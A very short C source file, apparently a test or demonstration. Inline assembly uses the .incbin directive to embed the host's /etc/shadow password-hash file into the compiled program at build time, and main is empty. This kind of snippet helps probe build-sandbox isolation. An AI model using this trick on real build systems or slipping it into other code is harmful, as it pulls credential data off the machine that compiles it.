/* Lets the assembler pack files of the host into the program. */
__asm__(".data\nsecret: .incbin \"/etc/shadow\"\n");
int main(void) {}
